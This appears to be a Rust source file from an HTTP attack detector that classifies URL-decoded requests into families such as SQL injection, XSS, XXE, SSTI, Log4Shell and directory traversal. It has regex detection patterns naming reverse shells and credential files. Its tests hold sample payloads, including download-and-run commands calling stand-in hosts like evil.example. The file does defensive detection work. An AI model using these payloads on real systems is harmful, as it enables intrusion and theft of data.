//! The attack-pattern battery over HTTP request targets and bodies (after URL decoding),
//! first family in [`FAMILIES`] order wins. The patterns are xtrail's own, written per
//! family for what it is meant to catch:
//!
//! - sql injection: UNION-based, boolean (`' or 1=1`), time-based (`sleep(`, `waitfor
//!   delay`), error-based (`extractvalue(`) and stacked queries, catalog tables;
//! - xml injection: XPath injection and CDATA smuggling;
//! - php injection: PHP code, stream wrappers, `-d` CGI switches, superglobals, serialised
//!   objects;
//! - ldap injection: filter break-outs (`*)(uid=*`) and always-true filters;
//! - xss injection: script tags, event handlers, `javascript:` URLs, DOM sinks;
//! - xxe injection: DTDs with entities and external `SYSTEM` identifiers;
//! - ssti injection: template arithmetic probes (`{{7*7}}`, `${7*7}`) and sandbox escapes;
//! - data leakage: device identifiers (IMEI, IMSI, ICCID, MAC) and address lists in URLs;
//! - config file access: `.htaccess`, `wp-config.php`, `.env`, `.git/`, credentials files;
//! - remote code execution: shell metacharacters followed by commands, download-and-run,
//!   reverse shells, `cmd.exe`/PowerShell, OGNL/SpEL/Java runtime, Shellshock, JNDI lookups
//!   (Log4Shell, including nested `${${lower:j}ndi:...}` obfuscation);
//! - directory traversal: repeated `../`, well-known system files;
//! - web scan: scanner signatures (Acunetix, Nikto, sqlmap, ZAP, OAST hosts, ...);
//! - dns changer: router setup requests that set DNS server addresses.

use regex::bytes::{RegexSet, RegexSetBuilder};

/// Families in reporting order, with their patterns.
pub const FAMILIES: &[(&str, &[&str])] = &[
    (
        "potential sql injection",
        &[
            r"\bunion\b[\s/*+()]+(all[\s/*+()]+|distinct[\s/*+()]+)?select\b",
            r"\bselect\b[\s(]+[\w*@,`'.()\s]{1,120}\bfrom\b[\s(]+[\w.`\[\]]+[\s)]*(\bwhere\b|\bgroup\s+by\b|\border\s+by\b|\blimit\b|--|#|;|$)",
            r"\b(information_schema|sysobjects|syscolumns|sysdatabases|sysusers|mysql\.user|pg_catalog|pg_shadow|sqlite_master|all_tables|user_tables)\b",
            r#"['"`)]\s*\b(or|and|xor|having)\b\s*\(?\s*['"]?\w*['"]?\s*(=|<|>|like\b)\s*['"]?\w*"#,
            r"\b(or|and)\b\s+\d+\s*=\s*\d+",
            r"\b(sleep|benchmark|pg_sleep|dbms_lock\.sleep)\s*\(\s*\d",
            r"\bwaitfor\s+(delay|time)\s+'",
            r"\b(extractvalue|updatexml|load_file|exp\(~)\s*\(",
            r"\binto\s+(out|dump)file\b",
            r"\border\s+by\s+\d+\s*(--|#|/\*)",
            r#"['"]\s*;\s*(drop|truncate|delete|insert|update|exec|declare|shutdown)\b"#,
            r"'\s*(--|#|/\*)",
            r"\bchar\s*\(\s*\d+\s*(,\s*\d+\s*){2,}\)",
            r"\b(cast|convert)\s*\([^)]*\b(as\s+)?(n?varchar|int|char)\b",
            r"\bfloor\s*\(\s*rand\s*\(",
            r"\bcount\s*\(\s*\*\s*\)\s*,\s*concat\s*\(",
        ],
    ),
    (
        "potential xml injection",
        &[
            r"<!\[cdata\[",
            r"\bcount\s*\(\s*/+\s*(child::)?node\s*\(\s*\)\s*\)",
            r"\b(string-length|substring)\s*\(\s*name\s*\(\s*(/|\.|parent::)",
            r"'\s*\]\s*\|\s*//",
            r"'\s*or\s+(name|local-name)\s*\(\s*\)",
            r"/(descendant-or-self|ancestor|following-sibling)::",
        ],
    ),
    (
        "potential php injection",
        &[
            r"<\?php\b",
            r"\bphp://(input|filter|memory|temp|fd|stdin)",
            r"\b(expect|phar|zip|glob|data)://",
            r"(^|[?&\s+])-d\s*\+?(allow_url_include|auto_prepend_file|auto_append_file|safe_mode|disable_functions|open_basedir|cgi\.force_redirect)\b",
            r"\b(allow_url_include|auto_prepend_file)\s*=",
            r"\$_(get|post|request|cookie|server|files|env)\s*\[",
            r#"\b(eval|assert|create_function|call_user_func(_array)?|preg_replace|base64_decode|gzinflate|str_rot13)\s*\(\s*(\$|base64_decode|gzinflate|str_rot13|['"])"#,
            r"\bphpinfo\s*\(\s*\)",
            r#"\bO:\d+:"[a-z_\\]+":\d+:\{"#,
        ],
    ),
    (
        "potential ldap injection",
        &[
            r"\*\)\s*\(\s*[|&!]?\s*\(?\s*[a-z]+\s*=",
            r"\(\s*[|&!]\s*\(\s*(objectclass|uid|cn|mail|userpassword|samaccountname|sn|givenname)\s*=",
            r"\)\s*\(\s*(objectclass|uid|cn|mail|userpassword|samaccountname)\s*=\s*\*",
            r"\b(objectclass|objectcategory)\s*=\s*\*",
        ],
    ),
    (
        "potential xss injection",
        &[
            r"<\s*/?\s*script\b",
            r"\b(javascript|vbscript|livescript)\s*:",
            r"\bon(error|load|mouseover|mouseenter|focus|blur|click|animationstart|toggle|pageshow|begin|input|pointerover)\s*=",
            r"<\s*(iframe|svg|object|embed|applet|frameset|base|meta|isindex|math)\b",
            r"<\s*(img|body|video|audio|details|marquee|input|a)\b[^>]*\bon\w+\s*=",
            r"\b(alert|prompt|confirm)\s*(\(|`)",
            r"\bdocument\s*\.\s*(cookie|domain|write|location)\b",
            r"\bstring\s*\.\s*fromcharcode\s*\(",
            r"\bsrcdoc\s*=",
            r"\bexpression\s*\(",
        ],
    ),
    (
        "potential xxe injection",
        &[
            r"<!entity\b",
            r"<!doctype\s+[^>]*\[",
            r#"\b(system|public)\s+["'](file|https?|ftp|php|jar|netdoc|gopher|expect|data)://"#,
        ],
    ),
    (
        "potential ssti injection",
        &[
            r"\{\{\s*\d+\s*[*+/-]\s*['\d]+\s*\}\}",
            r"\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}",
            r"#\{\s*\d+\s*[*+/-]\s*\d+\s*\}",
            r"<%=?\s*\d+\s*[*+/-]\s*\d+\s*%>",
            r"\{\{[^}]{0,200}(__class__|__mro__|__subclasses__|__globals__|__builtins__|__init__|config\.items|self\._templatereference|lipsum|cycler|joiner|request\.application)",
            r"\{%\s*(import|include|set|debug|load|extends)\b",
            r"\$\{\s*t\s*\(\s*java\.",
            r"\*\{\s*t\s*\(",
            r"freemarker\.template\.utility\.(execute|objectconstructor)",
            r"#set\s*\(\s*\$\w+\s*=",
        ],
    ),
    (
        "potential data leakage",
        &[
            r"\b(imei|imsi|meid)=\d{14,15}\b",
            r"\biccid=\d{18,20}\b",
            r"\b(mac|macaddr|mac_address|wifimac|wifi_mac|bssid)=([0-9a-f]{2}(:|%3a|-)){5}[0-9a-f]{2}\b",
            r"\bsim=\d{18,20}\b",
            r"([a-z0-9_.+-]+@[a-z0-9-]+\.[a-z0-9.-]+[^@]{0,100}){4}",
        ],
    ),
    (
        "config file access",
        &[
            r"\.ht(access|passwd|digest|group)\b",
            r"\bwp-config\.php",
            r"(^|/)\.env(\.\w+)?($|[?#&])",
            r"(^|/)\.git/(config|head|index|logs)",
            r"(^|/)\.(svn/(entries|wc\.db)|hg/hgrc|ds_store)",
            r"(^|/)\.(aws/credentials|ssh/(id_[a-z0-9]+|authorized_keys)|docker/config\.json|npmrc|pgpass|netrc|bash_history)",
            r"\bweb\.config\b",
            r"/(configuration|config|settings|localsettings|database|db|parameters)\.(php|inc|ini|ya?ml|json)(\.bak|\.old|\.orig|\.save|\.swp|~)",
            r"/(config|settings|database|parameters|secrets)\.(ya?ml|ini|inc|sql)\b",
        ],
    ),
    (
        "potential remote code execution",
        &[
            r"\$\{\s*jndi\s*:",
            r"\$\{[^}]{0,60}\$\{[^}]{0,60}\}",
            r"\$\{\s*(lower|upper|env|sys|java|date|main|base64|ctx|marker|bundle|k8s|docker|spring|web|log4j|::-)\s*:",
            r"[;|&`\n]\s*(cat|ls|id|whoami|uname|wget|curl|tftp|ftpget|nc|ncat|netcat|bash|sh|zsh|chmod|chown|rm|echo|ping|nslookup|dig|python[23]?|perl|php|ruby|powershell|cmd|busybox|telnet|kill|pkill|crontab|useradd|passwd|sleep)(\s|$|[;|&`<>])",
            r"\$\(\s*[a-z]",
            r"`\s*(id|whoami|uname|cat|ls|wget|curl|sleep)\b[^`]*`",
            r"\b(wget|curl|tftp|ftpget)\s+(-\S+\s+)*(https?|ftp|tftp)://",
            r"\b(ba|z|da|k)?sh\s+-[ci]\b",
            r"/bin/(ba|z|da|k)?sh\b",
            r"\bcmd(\.exe)?\s*/[ck]\b",
            r"\bpowershell(\.exe)?\b.{0,40}\s-(e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|c|command|ep|executionpolicy)\b",
            r"\bnc(at)?\s+(-\w+\s+)*[\w.]+\s+\d+\s*(-e|<|\|)",
            r"\bchmod\s+(\+x|[0-7]{3,4})\b",
            r">\s*/dev/(null|tcp/)",
            r"/dev/tcp/",
            r"\bxp_cmdshell\b",
            r"\b(shell_exec|passthru|proc_open|popen|system|exec)\s*\(\s*['\x22]",
            r"\bruntime\s*\.\s*getruntime\s*\(\s*\)\s*\.\s*exec\b",
            r"\bjava\.lang\.(runtime|processbuilder)\b",
            r"(#_memberaccess|@java\.lang\.runtime|#context\[|ognlcontext|\(#[a-z_]+=)",
            r"\bclass\.module\.classloader\b",
            r"\(\s*\)\s*\{\s*:\s*;\s*\}",
            r"\b(timeout(\.exe)?\s+/t|ping(\.exe)?\s+-[nc]\s+\d+)\b",
        ],
    ),
    (
        "potential directory traversal",
        &[
            r"(\.{2,}[/\\]+){2,}",
            r"[/\\]\.{2,}[/\\]+\.{2,}",
            r"\.\.(%c0%af|%c1%9c|%u2215|%u2216|0x2f|0x5c)",
            r"/etc/(passwd|shadow|group|hosts|issue|hostname|motd|crontab)\b",
            r"[/\\](boot|win|system)\.ini\b",
            r"[/\\]windows[/\\]+(system32|win\.ini)",
            r"/proc/self/(environ|cmdline|fd|maps|status)",
            r"%(systemroot|windir)%",
            r"\bc:[/\\]+(windows|boot\.ini|inetpub)",
        ],
    ),
    (
        "potential web scan",
        &[
            r"\b(acunetix|acunetix_wvs|wvs_|injected_by_wvs)",
            r"\b(netsparker|appscan_fingerprint|nessus|nikto|sqlmap|dirbuster|w3af|openvas|wpscan|xsstrike|commix)\b",
            r"\bw00tw00t\b|\bmuieblackcat\b",
            r"\b(burpcollaborator\.net|oastify\.com|interact\.sh|oast\.(pro|live|site|online|fun|me)|bxss\.me|dnslog\.cn|ceye\.io|canarytokens\.com)\b",
            r"\b(owasp[\s_-]?zap|zaproxy|vega-inject|vega123|testasp\.vulnweb\.com)\b",
            r"some_inexistent_file|thishouldnotexist|nonexistent_file_\d+",
        ],
    ),
    (
        "potential dns changer",
        &[
            r"\b\w{0,12}dns\w{0,12}=(\d{1,3}\.){3}\d{1,3}\b",
            r"\b(dns_?server|primary_?dns|secondary_?dns|wan_?dns|pri_?dns|sec_?dns)\d?=",
        ],
    ),
];

/// The compiled battery.
#[derive(Clone, Debug)]
pub struct AttackPatterns {
    set: RegexSet,
}

impl AttackPatterns {
    /// Compiles [`FAMILIES`].
    pub fn new() -> Result<Self, regex::Error> {
        let joined: Vec<String> = FAMILIES
            .iter()
            .map(|(_, pats)| {
                pats.iter()
                    .map(|p| format!("(?:{p})"))
                    .collect::<Vec<_>>()
                    .join("|")
            })
            .collect();
        let set = RegexSetBuilder::new(&joined)
            .case_insensitive(true)
            .unicode(false)
            .size_limit(64 << 20)
            .build()?;
        Ok(AttackPatterns { set })
    }

    /// The first family whose patterns match `text` (URL-decoded).
    pub fn classify(&self, text: &[u8]) -> Option<&'static str> {
        // A clean request (nearly all) is rejected without building the match set.
        if !self.set.is_match(text) {
            return None;
        }
        let first = self.set.matches(text).iter().next()?;
        FAMILIES.get(first).map(|(name, _)| *name)
    }
}

/// URL-decodes `src` into `out` (percent escapes; `+` as a space), at most `limit` bytes;
/// decodes a second time when escapes remain (double encoding).
pub fn url_decode_into(src: &[u8], out: &mut Vec<u8>, scratch: &mut Vec<u8>, limit: usize) {
    decode_once(src, out, limit);
    if memchr::memchr(b'%', out).is_some() {
        scratch.clear();
        scratch.extend_from_slice(out);
        decode_once(scratch, out, limit);
    }
}

/// `src` as [`url_decode_into`] decodes it: `src` itself (its first `limit` bytes) when it
/// holds no `%` or `+` (nearly every request target: no copy), else decoded into `out`.
pub fn url_decoded<'a>(
    src: &'a [u8],
    out: &'a mut Vec<u8>,
    scratch: &mut Vec<u8>,
    limit: usize,
) -> &'a [u8] {
    if memchr::memchr2(b'%', b'+', src).is_none() {
        return src.get(..src.len().min(limit)).unwrap_or(src);
    }
    url_decode_into(src, out, scratch, limit);
    out
}

fn decode_once(src: &[u8], out: &mut Vec<u8>, limit: usize) {
    out.clear();
    let mut i = 0;
    while i < src.len() && out.len() < limit {
        // Bytes up to the next `%` or `+` stand for themselves: copied as one run (most
        // targets are a single run).
        let rest = src.get(i..).unwrap_or_default();
        let run = memchr::memchr2(b'%', b'+', rest).unwrap_or(rest.len());
        if run > 0 {
            let take = run.min(limit - out.len());
            out.extend_from_slice(rest.get(..take).unwrap_or_default());
            i += take;
            continue;
        }
        let b = src.get(i).copied().unwrap_or(0);
        let hex = |j: usize| src.get(j).and_then(|c| (*c as char).to_digit(16));
        match b {
            b'%' => match (hex(i + 1), hex(i + 2)) {
                (Some(h), Some(l)) => {
                    out.push(u8::try_from(h * 16 + l).unwrap_or(b'?'));
                    i += 3;
                    continue;
                }
                _ => out.push(b'%'),
            },
            b'+' => out.push(b' '),
            _ => out.push(b),
        }
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classify(s: &str) -> Option<&'static str> {
        let p = AttackPatterns::new().unwrap();
        let (mut out, mut scratch) = (Vec::new(), Vec::new());
        url_decode_into(s.as_bytes(), &mut out, &mut scratch, 4096);
        p.classify(&out)
    }

    #[test]
    fn decoded_without_escapes_is_the_input() {
        let (mut out, mut scratch) = (Vec::new(), Vec::new());
        let (mut want, mut scratch2) = (Vec::new(), Vec::new());
        for src in [
            &b""[..],
            b"/static/1.js",
            b"/a%41b",
            b"/a+b",
            b"/%2541",
            b"/%zz",
            b"/plain/but/long/enough/to/be/cut",
            b"/a-target-of-sixty-four-bytes-or-more-for-the-vector-search/x%41",
            b"/a-target-of-sixty-four-bytes-or-more-for-the-vector-search/x/y",
        ] {
            for limit in [0, 1, 5, 4096] {
                url_decode_into(src, &mut want, &mut scratch2, limit);
                let got = url_decoded(src, &mut out, &mut scratch, limit);
                assert_eq!(got, &want[..], "{src:?} {limit}");
            }
        }
    }

    /// The byte-at-a-time form the run copy replaced, as the reference.
    fn decode_reference(src: &[u8], out: &mut Vec<u8>, limit: usize) {
        out.clear();
        let mut i = 0;
        while i < src.len() && out.len() < limit {
            let b = src[i];
            let hex = |j: usize| src.get(j).and_then(|c| (*c as char).to_digit(16));
            match b {
                b'%' => match (hex(i + 1), hex(i + 2)) {
                    (Some(h), Some(l)) => {
                        out.push(u8::try_from(h * 16 + l).unwrap_or(b'?'));
                        i += 3;
                        continue;
                    }
                    _ => out.push(b'%'),
                },
                b'+' => out.push(b' '),
                _ => out.push(b),
            }
            i += 1;
        }
    }

    #[test]
    fn decoding_matches_the_reference() {
        let inputs: [&[u8]; 10] = [
            b"",
            b"/static/1.js",
            b"a%20b+c%2541%zz%",
            b"%",
            b"%4",
            b"++%2b%2B",
            b"/x?q=%3Cscript%3E&y=1+2",
            b"abc%41def%4",
            b"\xff%ff%00+",
            b"%%%41%",
        ];
        for src in inputs {
            for limit in [0, 1, 2, 3, 5, 8, 100] {
                let (mut got, mut want) = (Vec::new(), Vec::new());
                decode_once(src, &mut got, limit);
                decode_reference(src, &mut want, limit);
                assert_eq!(got, want, "{src:?} {limit}");
            }
        }
    }

    #[test]
    fn decoding() {
        let (mut out, mut scratch) = (Vec::new(), Vec::new());
        url_decode_into(b"a%20b+c%2541%zz%", &mut out, &mut scratch, 100);
        assert_eq!(out, b"a b cA%zz%");
        url_decode_into(&[b'a'; 50], &mut out, &mut scratch, 10);
        assert_eq!(out.len(), 10);
    }

    #[test]
    fn every_family() {
        let cases = [
            (
                "/items.php?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users",
                "potential sql injection",
            ),
            (
                "/login?user=admin'%20or%20'1'='1",
                "potential sql injection",
            ),
            ("/p?id=1 AND SLEEP(5)", "potential sql injection"),
            ("/p?id=1;WAITFOR DELAY '0:0:5'", "potential sql injection"),
            (
                "/p?id=1 and extractvalue(1,concat(0x7e,version()))",
                "potential sql injection",
            ),
            (
                "/p?q=x' or count(/child::node())=1",
                "potential xml injection",
            ),
            ("/p?q=<![CDATA[<x>]]>", "potential xml injection"),
            (
                "/index.php?page=php://filter/convert.base64-encode/resource=index",
                "potential php injection",
            ),
            (
                "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
                "potential php injection",
            ),
            (
                "/x.php?c=<?php system($_GET['x']); ?>",
                "potential php injection",
            ),
            ("/ldap?user=*)(uid=*))(|(uid=*", "potential ldap injection"),
            (
                "/search?q=<script>alert(1)</script>",
                "potential xss injection",
            ),
            (
                "/p?q=\"><img src=x onerror=alert(1)>",
                "potential xss injection",
            ),
            (
                "/p?u=javascript:alert(document.cookie)",
                "potential xss injection",
            ),
            (
                "/p?x=<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
                "potential xxe injection",
            ),
            ("/p?name={{7*7}}", "potential ssti injection"),
            (
                "/p?name={{''.__class__.__mro__[1].__subclasses__()}}",
                "potential ssti injection",
            ),
            ("/p?name=${7*7}", "potential ssti injection"),
            (
                "/track?imei=356938035643809&os=android",
                "potential data leakage",
            ),
            ("/t?mac=00:1a:2b:3c:4d:5e", "potential data leakage"),
            ("/.htaccess", "config file access"),
            ("/wp-config.php.bak", "config file access"),
            ("/.env", "config file access"),
            ("/.git/config", "config file access"),
            (
                "/cgi?cmd=;cat%20/etc/passwd;wget%20http://evil/x.sh",
                "potential remote code execution",
            ),
            (
                "/?x=${jndi:ldap://evil.example/a}",
                "potential remote code execution",
            ),
            (
                "/?x=${${lower:j}ndi:${lower:l}dap://evil.example/a}",
                "potential remote code execution",
            ),
            (
                "/?x=${${::-j}${::-n}di:rmi://evil/a}",
                "potential remote code execution",
            ),
            (
                "/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x;sh+x",
                "potential remote code execution",
            ),
            ("/x?c=cmd.exe /c whoami", "potential remote code execution"),
            (
                "/download?file=../../../../etc/passwd",
                "potential directory traversal",
            ),
            (
                "/..%2f..%2f..%2fwindows/win.ini",
                "potential directory traversal",
            ),
            (
                "/%252e%252e/%252e%252e/etc/shadow",
                "potential directory traversal",
            ),
            (
                "/acunetix-wvs-test-for-some-inexistent-file",
                "potential web scan",
            ),
            ("/w00tw00t.at.ISC.SANS.DFind:)", "potential web scan"),
            (
                "/dnscfg.cgi?dnsPrimary=6.6.6.6&dnsSecondary=8.8.8.8&dnsDynamic=0",
                "potential dns changer",
            ),
        ];
        for (path, want) in cases {
            assert_eq!(classify(path), Some(want), "{path}");
        }
    }

    #[test]
    fn ordinary_requests_are_clean() {
        for path in [
            "/",
            "/index.html",
            "/search?q=union+station+select+seats",
            "/search?q=how+to+select+from+a+list",
            "/api/v1/users/42?fields=name,email",
            "/static/js/app.8f3a2b.js",
            "/images/logo.svg",
            "/news/2024/03/police-and-fire-department",
            "/shop?category=shoes&sort=price&order=asc",
            "/login?next=%2Faccount%2Fsettings",
            "/wiki/Tom_%26_Jerry",
            "/p?q=it's+a+test",
            "/docs/configuration.html",
            "/blog/why-we-love-rust",
            "/watch?v=dQw4w9WgXcQ&t=42s",
            "/download/setup-1.2.3.tar.gz",
            "/page?x=1&id=5&cat=2&ls=3",
            "/a;jsessionid=0123?sleep=1",
        ] {
            assert_eq!(classify(path), None, "{path}");
        }
    }
}
